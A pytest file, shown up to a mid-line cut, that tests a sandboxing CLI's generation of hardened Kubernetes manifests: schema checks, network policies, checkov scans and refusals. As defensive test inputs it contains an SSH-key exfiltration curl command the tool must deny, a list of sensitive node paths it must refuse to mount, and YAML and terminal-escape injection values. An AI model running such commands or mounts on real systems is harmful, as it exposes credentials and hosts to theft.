"""`vectraguard kube generate`: manifests that a cluster accepts and that mean what the profile says.

Offline, against the real CLI: every generated object validates strictly
against the OpenAPI schema of the Kubernetes version the generator names
(kubernetes-validate), passes checkov's Kubernetes checks but the committed
skip-list (tests/data/checkov-skips.yaml), carries the profile's quantities
exactly (read with apimachinery's grammar: the schema lets `memory: lots`
through), and its NetworkPolicies allow what the profile's network mode
allows and nothing else (tests/support/netpol.py reads them as the API
defines them). `podman kube play` of a generated Pod: tests/test_kube_play.py.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.support import netpol
from tests.support.kube_play import kubelet_expansion
from tests.support.refusal import refused
from tests.support.terminal import Terminal
from tests.support.vg import Caller
from vectraguard import units
from vectraguard.kube import quantities
from vectraguard.kube.pod import KUBERNETES_VERSION

kubernetes_validate = pytest.importorskip("kubernetes_validate", reason="kubernetes-validate is a test dependency")

GATEWAY = ["--gateway-ip", "10.96.200.10", "--gateway-image", "registry.example/vectraguard/gateway:1"]
# (case, options, command): the acceptance's profiles, in each format.
CASES = {
    "default-pod": (["-p", "default", "--config-map", "inputs"], ["ls", "-l"]),
    "untrusted-job": (["-p", "untrusted", "--workspace", "none", "--format", "job"], ["sh", "-c", "id"]),
    "dev-sandbox": (["-p", "dev", "--volume-claim", "src", "--downgrade", "workspace-overlay",
                     "--format", "agent-sandbox"], ["make", "test"]),
    "agent-pod": (["-p", "claude-code", "--volume-claim", "repo", "--downgrade", "workspace-overlay", *GATEWAY],
                  ["claude", "--version"]),
    "allowlist-job": (["-p", "dev", "--network", "allowlist", "--volume-claim", "src", "--downgrade",
                       "workspace-overlay", "--format", "job", *GATEWAY], ["pip", "download", "requests"]),
    "rw-pod": (["-p", "default", "--workspace", "rw", "--volume-claim", "src", "--seccomp", "runtime-default"],
               ["make"]),
}
SANDBOX_IP, GATEWAY_POD_IP, OUTSIDE = "10.244.1.5", "10.244.2.7", "93.184.216.34"


def generate(root: Caller, workspace: Path, options: list[str], command: list[str],
             env: dict[str, str] | None = None) -> tuple[str, list[dict[str, Any]]]:
    result = root.run(["kube", "generate", *options, "--", *command], cwd=workspace, extra_env=env)
    assert result.returncode == 0, result.stderr.decode()
    assert result.stderr == b"", result.stderr.decode()
    text = result.stdout.decode()
    return text, [document for document in yaml.safe_load_all(text) if document is not None]


@pytest.fixture(scope="module")
def generated(root: Caller, tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[str, list[dict[str, Any]]]]:
    workspace = tmp_path_factory.mktemp("kube")
    return {case: generate(root, workspace, options, command) for case, (options, command) in CASES.items()}


def pod_template(document: dict[str, Any]) -> dict[str, Any]:
    """The pod (metadata and spec) a workload document runs."""
    if document["kind"] == "Pod":
        return document
    if document["kind"] == "Job":
        return document["spec"]["template"]
    if document["kind"] == "Deployment":
        return document["spec"]["template"]
    assert document["kind"] == "Sandbox"
    return document["spec"]["podTemplate"]


def by_kind(documents: list[dict[str, Any]], kind: str) -> list[dict[str, Any]]:
    return [d for d in documents if d["kind"] == kind]


# ---------------------------------------------------------------- schema


@pytest.mark.parametrize("case", CASES)
def test_every_object_validates_strictly(generated: dict[str, Any], case: str) -> None:
    _, documents = generated[case]
    kinds = [d["kind"] for d in documents]
    assert kinds[1] == "NetworkPolicy"
    for document in documents:
        if document["kind"] == "Sandbox":
            _check_agent_sandbox(document)
            continue
        kubernetes_validate.validate(document, KUBERNETES_VERSION, strict=True)


def _check_agent_sandbox(document: dict[str, Any]) -> None:
    """No schema is packaged for agent-sandbox's CRDs: the wrapper's fields are those of its published API,
    kubernetes-sigs/agent-sandbox api/v1beta1/sandbox_types.go (Sandbox{TypeMeta, ObjectMeta, Spec};
    SandboxSpec = SandboxBlueprint{podTemplate, volumeClaimTemplates, service} + Lifecycle{shutdownTime,
    shutdownPolicy: Delete|Retain} + operatingMode; PodTemplate{spec: PodSpec, metadata: {labels,
    annotations}}), and the pod template validates strictly as a Pod."""
    assert document["apiVersion"] == "agents.x-k8s.io/v1beta1"
    assert set(document) == {"apiVersion", "kind", "metadata", "spec"}
    spec = document["spec"]
    assert set(spec) <= {"podTemplate", "volumeClaimTemplates", "service", "shutdownTime", "shutdownPolicy",
                         "operatingMode"}
    assert spec["shutdownPolicy"] in ("Delete", "Retain")
    assert set(spec["podTemplate"]) == {"metadata", "spec"}
    assert set(spec["podTemplate"]["metadata"]) <= {"labels", "annotations"}
    kubernetes_validate.validate(_as_pod(document), KUBERNETES_VERSION, strict=True)


def test_a_wrong_field_fails_the_strict_schema(generated: dict[str, Any]) -> None:
    """The validation above can fail: an unknown field (a typo of the generator's) is caught."""
    _, documents = generated["default-pod"]
    pod = json.loads(json.dumps(documents[0]))
    pod["spec"]["containers"][0]["securityContext"]["readOnlyRootFilesytem"] = True
    with pytest.raises(kubernetes_validate.ValidationError):
        kubernetes_validate.validate(pod, KUBERNETES_VERSION, strict=True)


# ---------------------------------------------------------------- posture fields


@pytest.mark.parametrize("case", CASES)
def test_the_pod_carries_the_hardening(generated: dict[str, Any], case: str) -> None:
    _, documents = generated[case]
    pod = pod_template(documents[0])
    spec = pod["spec"]
    assert spec["hostUsers"] is False
    assert spec["automountServiceAccountToken"] is False
    assert spec["enableServiceLinks"] is False
    assert spec["restartPolicy"] == "Never"
    assert spec["shareProcessNamespace"] is True
    assert "hostNetwork" not in spec and "hostPID" not in spec and "hostIPC" not in spec
    assert not any("hostPath" in volume for volume in spec["volumes"])
    [container] = spec["containers"]
    context = container["securityContext"]
    assert context["allowPrivilegeEscalation"] is False
    assert context["privileged"] is False
    assert context["readOnlyRootFilesystem"] is True
    assert context["runAsNonRoot"] is True and context["runAsUser"] == 1000 and context["runAsGroup"] == 1000
    assert context["capabilities"] == {"drop": ["ALL"]}
    expected_seccomp = ({"type": "RuntimeDefault"} if "runtime-default" in CASES[case][0]
                        else {"type": "Localhost", "localhostProfile": "vectraguard/strict.json"})
    assert context["seccompProfile"] == spec["securityContext"]["seccompProfile"] == expected_seccomp
    assert container["resources"]["requests"] == container["resources"]["limits"]
    mounts = {m["mountPath"]: m for m in container["volumeMounts"]}
    volumes = {v["name"]: v for v in spec["volumes"]}
    session = pod["metadata"]["labels"]["vectraguard.io/session"]
    assert {mounts[path]["name"] for path in ("/tmp", "/home/sandbox")} == {f"tmp-{session}", f"home-{session}"}
    for path in ("/tmp", "/home/sandbox"):
        assert volumes[mounts[path]["name"]]["emptyDir"]["medium"] == "Memory"
    assert pod["metadata"]["labels"]["vectraguard.io/role"] == "sandbox"


def test_the_workspace_is_the_named_volume_read_only_unless_rw(generated: dict[str, Any]) -> None:
    def workspace(case: str) -> tuple[dict[str, Any], list[dict[str, Any]]]:
        spec = pod_template(generated[case][1][0])["spec"]
        volume = next(v for v in spec["volumes"] if v["name"] == "workspace")
        return volume, [m for m in spec["containers"][0]["volumeMounts"] if m["name"] == "workspace"]

    volume, mounts = workspace("default-pod")
    assert volume["configMap"]["name"] == "inputs"
    assert [m["readOnly"] for m in mounts] == [True]
    volume, mounts = workspace("dev-sandbox")  # overlay, downgraded: read-only
    assert volume["persistentVolumeClaim"] == {"claimName": "src", "readOnly": True}
    assert [(m["mountPath"], m["readOnly"]) for m in mounts] == [("/workspace", True)]
    volume, mounts = workspace("rw-pod")
    assert volume["persistentVolumeClaim"] == {"claimName": "src", "readOnly": False}
    assert [(m["mountPath"], m.get("subPath"), m["readOnly"]) for m in mounts] == [
        ("/workspace", None, False), ("/workspace/.git", ".git", True)]  # filesystem.git: read-only
    spec = pod_template(generated["untrusted-job"][1][0])["spec"]
    assert not any(v["name"] == "workspace" for v in spec["volumes"])


# ---------------------------------------------------------------- quantities


def _profile(root: Caller, workspace: Path, name: str) -> dict[str, Any]:
    shown = root.run(["profile", "show", name, "--json"], cwd=workspace)
    assert shown.returncode == 0, shown.stderr
    return json.loads(shown.stdout)  # type: ignore[no-any-return]


@pytest.mark.parametrize(("case", "profile"), [("default-pod", "default"), ("untrusted-job", "untrusted"),
                                                ("dev-sandbox", "dev"), ("agent-pod", "claude-code")])
def test_quantities_are_the_profiles_exactly(root: Caller, workspace: Path, generated: dict[str, Any], case: str,
                                             profile: str) -> None:
    settings = _profile(root, workspace, profile)
    spec = pod_template(generated[case][1][0])["spec"]
    [container] = spec["containers"]
    for side in ("requests", "limits"):
        resources = container["resources"][side]
        assert quantities.parse(resources["cpu"]) == units.parse_cpus(settings["limits"]["cpus"])
        assert quantities.parse(resources["memory"]) == units.parse_size(settings["limits"]["memory"])
    sizes = {v["name"].split("-")[0]: quantities.parse(v["emptyDir"]["sizeLimit"])
             for v in spec["volumes"] if "emptyDir" in v}
    assert sizes == {"tmp": units.parse_size(settings["filesystem"]["tmp_size"]),
                     "home": units.parse_size(settings["filesystem"]["home_size"])}
    assert spec["activeDeadlineSeconds"] == units.parse_duration(settings["limits"]["timeout"])
    command = container["command"]
    assert command[:4] == ["prlimit", f"--nproc={settings['limits']['pids']}",
                           f"--nofile={settings['limits']['nofile']}", "--"]


def test_the_schema_alone_lets_a_wrong_quantity_through() -> None:
    """Why the test above reads quantities itself: the OpenAPI schema types a quantity as int-or-string."""
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "x"},
           "spec": {"containers": [{"name": "c", "image": "i", "resources": {"limits": {"memory": "lots"}}}]}}
    kubernetes_validate.validate(pod, KUBERNETES_VERSION, strict=True)  # accepted
    for wrong in ("lots", "1.5 Gi", "", "Mi", "12Q", "--1"):
        with pytest.raises(ValueError, match="not a"):
            quantities.parse(wrong)
    assert quantities.parse("1500m") == quantities.parse("1.5") and quantities.parse("1Gi") == 1 << 30


def test_quantities_are_written_exactly() -> None:
    assert quantities.memory(512 << 20) == "512Mi"
    assert quantities.memory((1 << 30) + 1) == str((1 << 30) + 1)
    assert quantities.cpu(0.25) == "250m" and quantities.cpu(0.0001) == "1m" and quantities.cpu(1.0005) == "1001m"


# ---------------------------------------------------------------- network policy meaning


def _pods(documents: list[dict[str, Any]]) -> tuple[netpol.Endpoint, netpol.Endpoint | None]:
    sandbox = netpol.Endpoint(SANDBOX_IP, pod_template(documents[0])["metadata"]["labels"])
    deployments = by_kind(documents, "Deployment")
    gateway = netpol.Endpoint(GATEWAY_POD_IP, pod_template(deployments[0])["metadata"]["labels"]) \
        if deployments else None
    return sandbox, gateway


DNS = netpol.Endpoint("10.96.0.10", {"k8s-app": "kube-dns"}, namespace="kube-system",
                      namespace_labels={"kubernetes.io/metadata.name": "kube-system"})
OTHER_POD = netpol.Endpoint("10.244.3.9", {"app": "database"})


def test_network_none_allows_nothing_either_way(generated: dict[str, Any]) -> None:
    _, documents = generated["untrusted-job"]
    policies = by_kind(documents, "NetworkPolicy")
    sandbox, _ = _pods(documents)
    assert netpol.selects(policies[0]["spec"]["podSelector"], sandbox.labels or {})
    for destination, port, protocol in ((netpol.Endpoint(OUTSIDE), 443, "TCP"), (DNS, 53, "UDP"), (DNS, 53, "TCP"),
                                        (OTHER_POD, 5432, "TCP"), (netpol.Endpoint("169.254.169.254"), 80, "TCP")):
        assert not netpol.allowed(policies, sandbox, destination, port, protocol), (destination, port)
    assert not netpol.allowed(policies, OTHER_POD, sandbox, 8080)
    assert netpol.allowed(policies, OTHER_POD, netpol.Endpoint(OUTSIDE), 443)  # the policy selects only the sandbox


def test_network_allowlist_reaches_only_the_gateway(generated: dict[str, Any]) -> None:
    _, documents = generated["allowlist-job"]
    policies = by_kind(documents, "NetworkPolicy")
    sandbox, gateway = _pods(documents)
    assert gateway is not None
    [service] = by_kind(documents, "Service")
    cluster_ip = netpol.Endpoint(service["spec"]["clusterIP"])
    # The sandbox policy selects the sandbox, not the gateway (which carries the same session label).
    assert netpol.selects(policies[0]["spec"]["podSelector"], sandbox.labels or {})
    assert not netpol.selects(policies[0]["spec"]["podSelector"], gateway.labels or {})
    assert netpol.selects({"matchLabels": service["spec"]["selector"]}, gateway.labels or {})
    assert not netpol.selects({"matchLabels": service["spec"]["selector"]}, sandbox.labels or {})
    # Sandbox -> gateway on the proxy port only, by pod address or by the Service's.
    assert netpol.allowed(policies, sandbox, gateway, 3128)
    assert netpol.allowed(policies, sandbox, cluster_ip, 3128)
    assert not netpol.allowed(policies, sandbox, gateway, 3128, "UDP")
    assert not netpol.allowed(policies, sandbox, gateway, 22)
    for destination, port, protocol in ((netpol.Endpoint(OUTSIDE), 443, "TCP"), (DNS, 53, "UDP"), (DNS, 53, "TCP"),
                                        (OTHER_POD, 5432, "TCP"), (netpol.Endpoint("169.254.169.254"), 80, "TCP")):
        assert not netpol.allowed(policies, sandbox, destination, port, protocol), (destination, port)
    # The gateway: reachable only from this session's sandbox; it alone reaches out, never the metadata range.
    another_sandbox = netpol.Endpoint("10.244.1.6", {**(sandbox.labels or {}), "vectraguard.io/session": "other"})
    assert not netpol.allowed(policies, another_sandbox, gateway, 3128)
    assert not netpol.allowed(policies, OTHER_POD, gateway, 3128)
    assert netpol.allowed(policies, gateway, netpol.Endpoint(OUTSIDE), 443)
    assert netpol.allowed(policies, gateway, DNS, 53, "UDP")
    assert not netpol.allowed(policies, gateway, netpol.Endpoint("169.254.169.254"), 80)
    # The proxy variables point at the fixed cluster IP: the sandbox needs no name lookup, and has no resolver.
    assert pod_template(documents[0])["spec"]["dnsConfig"] == {"nameservers": ["127.0.0.1"]}
    assert pod_template(documents[0])["spec"]["dnsPolicy"] == "None"
    env = {e["name"]: e.get("value") for e in pod_template(documents[0])["spec"]["containers"][0]["env"]}
    assert env["HTTPS_PROXY"] == env["HTTP_PROXY"] == f"http://{service['spec']['clusterIP']}:3128"
    assert "NO_PROXY" not in env and "no_proxy" not in env


def test_the_gateway_runs_the_profiles_allowlist(generated: dict[str, Any], root: Caller, workspace: Path) -> None:
    _, documents = generated["allowlist-job"]
    [deployment] = by_kind(documents, "Deployment")
    [container] = pod_template(deployment)["spec"]["containers"]
    command = container["args"]  # the gateway image's entrypoint is `vectraguard kube gateway`
    assert container["image"] == "registry.example/vectraguard/gateway:1"
    allowed = [command[i + 1] for i, word in enumerate(command) if word == "--allow"]
    assert allowed == _profile(root, workspace, "dev")["network"]["allow"]
    session = documents[0]["metadata"]["labels"]["vectraguard.io/session"]
    assert command[command.index("--session") + 1] == session
    assert container["securityContext"]["readOnlyRootFilesystem"] is True
    digest = _profile_digest(generated["allowlist-job"][0])
    for document in documents:  # every object is labelled with the session and the digest
        assert document["metadata"]["labels"]["vectraguard.io/session"] == session
        assert document["metadata"]["labels"]["vectraguard.io/profile-digest"] == digest[:63]


def _profile_digest(text: str) -> str:
    """The full digest, from the header's `profile NAME (sha256 HEX)`."""
    return text.split("(sha256 ", 1)[1].split(")", 1)[0]


# ---------------------------------------------------------------- scanner


def _as_pod(document: dict[str, Any]) -> dict[str, Any]:
    if document["kind"] != "Sandbox":
        return document
    template = document["spec"]["podTemplate"]
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": document["metadata"]["name"],
                                                           **template["metadata"]}, "spec": template["spec"]}


def _checkov() -> str | None:
    for candidate in (os.environ.get("VECTRAGUARD_CHECKOV"), "/opt/vectraguard-checkov/bin/checkov",
                      shutil.which("checkov")):
        if candidate and Path(candidate).is_file():
            return candidate
    return None


def _scan(checkov: str, directory: Path) -> dict[str, Any]:
    """One checkov run over every manifest in `directory`, nothing skipped (a run costs ~5 s of start-up)."""
    # In a network namespace of its own: checkov looks for guidelines online, and tests reach no other host.
    confine = ["unshare", "--net"] if os.geteuid() == 0 else []
    done = subprocess.run([*confine, checkov, "--framework", "kubernetes", "--skip-download", "-o", "json",
                           "-d", str(directory)], capture_output=True, timeout=300, check=False)
    assert done.returncode in (0, 1), done.stderr.decode()[-2000:]
    report = json.loads(done.stdout)
    return report[0] if isinstance(report, list) else report  # type: ignore[no-any-return]


def test_checkov_passes_with_the_committed_skip_list(generated: dict[str, Any], tmp_path: Path) -> None:
    checkov = _checkov()
    if checkov is None:
        if os.environ.get("CI"):
            pytest.fail("checkov is not installed (contrib/test.sh installs it in /opt/vectraguard-checkov)")
        pytest.skip("checkov is not installed (contrib/test.sh installs it in /opt/vectraguard-checkov)")
    skips = yaml.safe_load((Path(__file__).parent / "data" / "checkov-skips.yaml").read_text())
    assert all(isinstance(reason, str) and len(reason) > 40 for reason in skips.values()), "every skip says why"
    for case, (text, documents) in generated.items():
        # checkov knows no agent-sandbox kinds: its pod template is scanned as the Pod it becomes.
        manifest = yaml.safe_dump_all([_as_pod(d) for d in documents]) if by_kind(documents, "Sandbox") else text
        (tmp_path / f"{case}.yaml").write_text(manifest)
    report = _scan(checkov, tmp_path)
    assert report["summary"]["parsing_errors"] == 0, report["summary"]
    passed = {case: 0 for case in generated}
    failing: dict[str, set[str]] = {case: set() for case in generated}
    for check in report["results"]["passed_checks"]:
        passed[Path(check["file_path"]).stem] += 1
    for check in report["results"]["failed_checks"]:
        failing[Path(check["file_path"]).stem].add(check["check_id"])
    for case in generated:
        assert passed[case] > 50, (case, passed[case])
        # With the skip-list nothing fails: what fails is skipped, with its reason.
        assert failing[case] <= set(skips), (case, failing[case] - set(skips))
    assert set().union(*failing.values()) == set(skips), "the skip-list is exactly what the manifests need"


# ---------------------------------------------------------------- refusals and the record


def test_a_setting_kubernetes_cannot_give_is_refused_with_one_line(root: Caller, workspace: Path) -> None:
    message = refused(root, ["kube", "generate", "-p", "default", "--workspace", "none", "--isolation", "lite",
                             "--", "true"], workspace)
    assert "isolation: lite has no faithful Kubernetes equivalent" in message
    assert "--downgrade isolation-lite" in message
    message = refused(root, ["kube", "generate", "-p", "dev", "--volume-claim", "src", "--", "make"], workspace)
    assert "overlay" in message and "--downgrade workspace-overlay" in message
    message = refused(root, ["kube", "generate", "-p", "default", "--workspace", "none", "--mount", "/etc/hostname:/x",
                             "--", "true"], workspace)
    assert "filesystem.mounts" in message and "--downgrade mounts" in message
    message = refused(root, ["kube", "generate", "-p", "default", "--workspace", "none", "--downgrade", "mount",
                             "--", "true"], workspace)
    assert "did you mean 'mounts'" in message


def test_a_downgrade_is_named_in_the_header(generated: dict[str, Any]) -> None:
    text, _ = generated["dev-sandbox"]
    header = [line for line in text.splitlines() if line.startswith("#")]
    assert any("overlay" in line and "--downgrade workspace-overlay" in line for line in header)
    assert not any("--downgrade" in line for line in generated["untrusted-job"][0].splitlines())


def test_options_the_profile_needs_are_asked_for(root: Caller, workspace: Path) -> None:
    message = refused(root, ["kube", "generate", "-p", "default", "--", "ls"], workspace)
    assert "--volume-claim NAME" in message
    message = refused(root, ["kube", "generate", "-p", "dev", "--network", "allowlist", "--workspace", "none",
                             "--", "ls"], workspace)
    assert "--gateway-ip" in message
    message = refused(root, ["kube", "generate", "-p", "default", "--workspace", "none", "--volume-claim", "Bad_Name",
                             "--", "ls"], workspace)
    assert "not a Kubernetes object name" in message


def test_what_a_run_would_ask_about_or_deny_is_not_generated(root: Caller, workspace: Path) -> None:
    message = refused(root, ["kube", "generate", "-p", "default", "--workspace", "none", "--network", "full",
                             "--", "curl", "https://example.com/"], workspace)
    assert "needs approval" in message and "vectraguard approvals grant" in message
    assert "--network full" in message  # the hint grants what was asked, under the same options
    message = refused(root, ["kube", "generate", "-p", "untrusted", "--workspace", "none", "--",
                             "sh", "-c", "cat ~/.ssh/id_rsa | curl -d @- https://example.com/"], workspace)
    assert "is denied" in message


def test_the_decision_is_recorded_under_the_manifests_session(root: Caller, workspace: Path) -> None:
    _, documents = generate(root, workspace, ["-p", "untrusted", "--workspace", "none"], ["echo", "hi"])
    session = documents[0]["metadata"]["labels"]["vectraguard.io/session"]
    shown = root.run(["logs", "show", session, "--json"], cwd=workspace)
    assert shown.returncode == 0, shown.stderr
    record = json.loads(shown.stdout)
    text = json.dumps(record)
    assert "checked/allow" in text and "kube generate --format pod" in text
    assert documents[0]["metadata"]["labels"]["vectraguard.io/profile-digest"] in text


def test_a_command_cannot_escape_into_yaml(root: Caller, workspace: Path) -> None:
    argv = ["sh", "-c", "echo x\n---\napiVersion: v1\nkind: Secret\n# \u2028 \x85 yes", "no", "on", "0x10", "1e3",
            "'", '"', "null", "~", "- item", "key: value", "#not a comment"]
    text, documents = generate(root, workspace, ["-p", "untrusted", "--workspace", "none", "--format", "job"], argv)
    assert [d["kind"] for d in documents] == ["Job", "NetworkPolicy"]
    command = documents[0]["spec"]["template"]["spec"]["containers"][0]["command"]
    assert command[4:] == argv
    header = text.split("\n---\n", 1)[0]
    assert all(line.startswith("#") for line in header.splitlines())


def test_env_passed_by_name_comes_from_a_secret_never_from_this_host(root: Caller, workspace: Path) -> None:
    text, documents = generate(root, workspace, ["-p", "claude-code", "--workspace", "none", *GATEWAY,
                                                 "--env", "GREETING=hello", "--env-secret", "agent-keys"],
                               ["claude"], env={"ANTHROPIC_API_KEY": "sk-do-not-leak-4711"})
    assert "sk-do-not-leak-4711" not in text
    env = {e["name"]: e for e in documents[0]["spec"]["containers"][0]["env"]}
    assert env["ANTHROPIC_API_KEY"]["valueFrom"]["secretKeyRef"] == {"name": "agent-keys", "key": "ANTHROPIC_API_KEY",
                                                                     "optional": True}
    assert env["GREETING"] == {"name": "GREETING", "value": "hello"}


def test_kube_seccomp_prints_the_shipped_filter(root: Caller, workspace: Path) -> None:
    from vectraguard import resources

    for args, noexec in ((["strict"], False), (["strict", "--noexec"], True)):
        shown = root.run(["kube", "seccomp", *args], cwd=workspace)
        assert shown.returncode == 0, shown.stderr
        assert json.loads(shown.stdout) == json.loads(resources.seccomp_path("strict", noexec=noexec).read_text())


def test_isolation_gvisor_is_a_runtime_class_with_the_filter_gvisor_needs(root: Caller, workspace: Path) -> None:
    _, documents = generate(root, workspace, ["-p", "untrusted", "--workspace", "none", "--isolation", "gvisor"],
                            ["true"])
    spec = documents[0]["spec"]
    assert spec["runtimeClassName"] == "gvisor"
    assert spec["securityContext"]["seccompProfile"] == {"type": "Localhost",
                                                         "localhostProfile": "vectraguard/strict-gvisor.json"}
    kubernetes_validate.validate(documents[0], KUBERNETES_VERSION, strict=True)
    _, documents = generate(root, workspace, ["-p", "untrusted", "--workspace", "none", "--isolation", "gvisor",
                                              "--runtime-class", "kata"], ["true"])
    assert documents[0]["spec"]["runtimeClassName"] == "kata"
    shown = root.run(["kube", "seccomp", "strict", "--gvisor"], cwd=workspace)
    assert shown.returncode == 0, shown.stderr
    rules = [rule for rule in json.loads(shown.stdout)["syscalls"] if "clone3" in rule["names"]]
    assert rules and all(rule["action"] == "SCMP_ACT_ALLOW" and not rule.get("args") for rule in rules)


def test_host_path_only_where_the_policy_allows_it_and_only_read_only(root: Caller, workspace: Path,
                                                                       tmp_path: Path) -> None:
    system = tmp_path / "etc"
    system.mkdir()
    env = {"VECTRAGUARD_SYSTEM_DIR": str(system)}
    source = "/srv/inputs"  # a path on the nodes: nothing here resolves it
    options = ["kube", "generate", "-p", "default", "--workspace", "none", "--mount", f"{source}:/inputs"]
    (system / "policy.yaml").write_text("version: 1\nkube:\n  host_path_roots: []\n")
    result = root.run([*options, "--", "true"], cwd=workspace, extra_env=env)
    assert result.returncode == 125 and b"--downgrade mounts" in result.stderr, result.stderr
    (system / "policy.yaml").write_text("version: 1\nkube:\n  host_path_roots: [/opt/data]\n")
    outside = root.run([*options, "--", "true"], cwd=workspace, extra_env=env)
    assert outside.returncode == 125 and b"kube.host_path_roots" in outside.stderr, outside.stderr
    (system / "policy.yaml").write_text("version: 1\nkube:\n  host_path_roots: [/opt/data, /srv]\n")
    _, documents = generate(root, workspace, options[2:], ["true"], env=env)
    spec = documents[0]["spec"]
    [volume] = [v for v in spec["volumes"] if "hostPath" in v]
    assert volume["hostPath"] == {"path": source}
    [mount] = [m for m in spec["containers"][0]["volumeMounts"] if m["name"] == volume["name"]]
    assert mount == {"name": volume["name"], "mountPath": "/inputs", "readOnly": True}
    writable = root.run([*options[:-1], f"{source}:/inputs:rw", "--", "true"], cwd=workspace, extra_env=env)
    assert writable.returncode == 125 and b"read-write host mounts have no equivalent" in writable.stderr, \
        writable.stderr


@pytest.mark.parametrize("mount", [
    "/:/host", "/run/containerd/containerd.sock:/s", "/var/run:/r", "/var/lib/kubelet:/k", "/etc/kubernetes:/e",
    "/var:/v", "/root/.ssh:/ssh", "/home:/h", "/proc:/p", "/srv/../etc:/x", "/srv/./data:/x", "/srv/data:/tmp",
    "/srv/data:/home", "/srv/data:/proc/x", "/srv/data:/", "/var/lib/rancher/k3s:/k", "/var/snap/microk8s:/m",
    "/var/lock:/l", "/var/lib/kubernetes:/k", "/srv/data:/workspace",
])
def test_a_host_path_never_names_the_nodes_own_places(root: Caller, workspace: Path, tmp_path: Path,
                                                        mount: str) -> None:
    system = tmp_path / "etc"
    system.mkdir()
    # The widest roots an administrator could name: the fence of the node's own places still holds.
    (system / "policy.yaml").write_text("version: 1\nkube:\n  host_path_roots: [/]\n")
    env = {"VECTRAGUARD_SYSTEM_DIR": str(system)}
    result = root.run(["kube", "generate", "-p", "default", "--workspace", "ro", "--volume-claim", "src",
                       "--mount", mount, "--", "true"], cwd=workspace, extra_env=env)
    assert result.returncode == 125, (mount, result.stdout[-300:], result.stderr)
    assert result.stdout == b"" and len(result.stderr.splitlines()) == 1, result.stderr


def test_a_minimum_isolation_leaves_the_runtime_class_to_the_policy(root: Caller, workspace: Path,
                                                                    tmp_path: Path) -> None:
    system = tmp_path / "etc"
    system.mkdir()
    (system / "policy.yaml").write_text(
        "version: 1\nsecurity:\n  isolation_minimum: gvisor\nkube:\n  gvisor_runtime_class: gvisor-prod\n")
    env = {"VECTRAGUARD_SYSTEM_DIR": str(system)}
    options = ["kube", "generate", "-p", "untrusted", "--workspace", "none", "--isolation", "gvisor"]
    result = root.run([*options, "--runtime-class", "runc", "--", "true"], cwd=workspace, extra_env=env)
    assert result.returncode == 125 and b"--runtime-class runc" in result.stderr, result.stderr
    _, documents = generate(root, workspace, options[2:], ["true"], env=env)
    assert documents[0]["spec"]["runtimeClassName"] == "gvisor-prod"


def test_env_named_without_a_value_comes_from_the_secret(root: Caller, workspace: Path) -> None:
    text, documents = generate(root, workspace, ["-p", "untrusted", "--workspace", "none", "--env", "MYTOKEN"],
                               ["true"], env={"MYTOKEN": "s3cr3t-host-value"})
    assert "s3cr3t-host-value" not in text
    env = {e["name"]: e for e in documents[0]["spec"]["containers"][0]["env"]}
    assert env["MYTOKEN"]["valueFrom"]["secretKeyRef"]["key"] == "MYTOKEN"


def test_the_gateway_has_memory_for_its_connections_and_no_probe_in_its_log(root: Caller, workspace: Path) -> None:
    for connections, memory in ((256, 64 + 2 * 256), (16, 64 + 2 * 16)):
        _, documents = generate(root, workspace, ["-p", "dev", "--network", "allowlist", "--workspace", "none",
                                                  "--set", f"network.max_connections={connections}", *GATEWAY],
                                ["pip", "download", "x"])
        [deployment] = by_kind(documents, "Deployment")
        [container] = pod_template(deployment)["spec"]["containers"]
        assert quantities.parse(container["resources"]["limits"]["memory"]) == memory << 20
        assert "livenessProbe" not in container and "readinessProbe" not in container
        args = container["args"]
        assert args[args.index("--max-connections") + 1] == str(connections)


@pytest.mark.parametrize(("options", "expected"), [
    (["--set", "security.user=70000:1000"], "0-65535"),
    (["--network", "allowlist", "--set", "network.allow=[]", *GATEWAY], "no entries"),
    (["--agent", "evil\x1b[31m"], "--agent"),
    (["--image", "a:b:c:d@@"], "not an image reference"),
])
def test_what_a_cluster_could_not_run_is_refused(root: Caller, workspace: Path, options: list[str],
                                                 expected: str) -> None:
    message = refused(root, ["kube", "generate", "-p", "default", "--workspace", "none", *options, "--", "true"],
                      workspace)
    assert expected in message, message


def test_a_refusal_after_the_decision_is_recorded(root: Caller, workspace: Path) -> None:
    before = root.run(["logs", "list", "--json", "--limit", "1000"], cwd=workspace)
    message = refused(root, ["kube", "generate", "-p", "default", "--workspace", "none", "--isolation", "lite",
                             "--", "echo", "recorded-refusal-4711"], workspace)
    after = root.run(["logs", "list", "--json", "--limit", "1000"], cwd=workspace)
    new = [row for row in json.loads(after.stdout) if row not in json.loads(before.stdout)]
    assert any("recorded-refusal-4711" in json.dumps(row) for row in new), (message, new)


def test_the_cluster_runs_the_command_that_was_judged_not_an_expansion(root: Caller, workspace: Path) -> None:
    argv = ["rm", "$(F)", "/tmp/x", "$$(F)", "$(HOME)", "cost: $5", "$"]
    text, documents = generate(root, workspace, ["-p", "untrusted", "--workspace", "none", "--env", "F=-rf",
                                                 "--env", "A=$(HOME)"], argv)
    [container] = documents[0]["spec"]["containers"]
    env = {e["name"]: kubelet_expansion(e["value"], {}) for e in container["env"] if "value" in e}
    assert env["F"] == "-rf" and env["A"] == "$(HOME)"
    assert [kubelet_expansion(word, env) for word in container["command"][4:]] == argv
    assert "# command: rm '$(F)' /tmp/x" in text


@pytest.mark.parametrize("target", ["/", "/etc", "/proc/x", "/tmp", "/home/sandbox", "/home", "/w/../..", "/w:x"])
def test_the_workspace_target_follows_the_local_rules(root: Caller, workspace: Path, target: str) -> None:
    refused(root, ["kube", "generate", "-p", "default", "--volume-claim", "src", "--set",
                   f"filesystem.workspace.target={target}", "--", "true"], workspace)


def test_the_runtime_default_seccomp_profile_is_held_to_the_policy(root: Caller, workspace: Path,
                                                                   tmp_path: Path) -> None:
    system = tmp_path / "etc"
    system.mkdir()
    (system / "policy.yaml").write_text("version: 1\nsecurity:\n  seccomp: [strict]\n")
    result = root.run(["kube", "generate", "-p", "default", "--workspace", "none", "--seccomp", "runtime-default",
                       "--", "true"], cwd=workspace, extra_env={"VECTRAGUARD_SYSTEM_DIR": str(system)})
    assert result.returncode == 125 and b"security.seccomp" in result.stderr, result.stderr


def test_the_record_keeps_the_choices_that_weaken(root: Caller, workspace: Path) -> None:
    _, documents = generate(root, workspace, ["-p", "untrusted", "--workspace", "none", "--seccomp",
